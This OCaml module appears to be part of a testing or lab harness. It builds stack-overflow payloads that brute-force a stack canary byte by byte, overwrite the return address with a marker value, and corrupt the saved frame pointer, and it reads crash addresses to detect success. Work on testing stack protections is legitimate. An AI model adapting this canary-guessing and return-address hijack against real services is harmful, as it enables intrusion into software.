type layout = { overflow_distance : int; canary_len : int }

let magic_ret = 0xDEAD0000L

let filler n = Bytes.make n 'A'

let guess_prefix layout ~known ~guess =
  let k = Bytes.length known in
  if k >= layout.canary_len then
    invalid_arg "Payload.guess_prefix: canary already fully known";
  let b = Bytes.create (layout.overflow_distance + k + 1) in
  Bytes.fill b 0 layout.overflow_distance 'A';
  Bytes.blit known 0 b layout.overflow_distance k;
  Bytes.set b (layout.overflow_distance + k) (Char.chr (guess land 0xFF));
  b

let hijack layout ~canary =
  if Bytes.length canary <> layout.canary_len then
    invalid_arg "Payload.hijack: canary length mismatch";
  (* [filler][canary][saved rbp][return address] *)
  let b = Bytes.create (layout.overflow_distance + layout.canary_len + 16) in
  Bytes.fill b 0 layout.overflow_distance 'A';
  Bytes.blit canary 0 b layout.overflow_distance layout.canary_len;
  let off = layout.overflow_distance + layout.canary_len in
  Bytes.set_int64_le b off 0L (* saved rbp: junk; never dereferenced before ret *);
  Bytes.set_int64_le b (off + 8) magic_ret;
  b

let planted_rbp = 0x4242424242424242L

let stealth_corruption layout ~canary =
  if Bytes.length canary <> layout.canary_len then
    invalid_arg "Payload.stealth_corruption: canary length mismatch";
  let b = Bytes.create (layout.overflow_distance + layout.canary_len + 8) in
  Bytes.fill b 0 layout.overflow_distance 'A';
  Bytes.blit canary 0 b layout.overflow_distance layout.canary_len;
  Bytes.set_int64_le b (layout.overflow_distance + layout.canary_len)
    planted_rbp;
  b

(* The address a SIGSEGV names: every one is a fault, reported as
   "segmentation fault at 0x...". *)
let segv_addr = function
  | Oracle.Crashed (Os.Process.Sigsegv, msg) -> (
    match String.rindex_opt msg ' ' with
    | Some i ->
      Int64.of_string_opt (String.sub msg (i + 1) (String.length msg - i - 1))
    | None -> None)
  | Oracle.Survived _ | Oracle.Crashed _ | Oracle.Server_down _ -> None

let hijacked response =
  match segv_addr response with Some a -> Int64.equal a magic_ret | None -> false

(* The caller's first frame access after [leave; ret] goes through the
   planted rbp: a fault within a page of it means the corruption got
   past the canary check. *)
let stealth_landed = function
  | Oracle.Survived _ -> true
  | response -> (
    match segv_addr response with
    | Some addr -> Int64.abs (Int64.sub addr planted_rbp) < 4096L
    | None -> false)
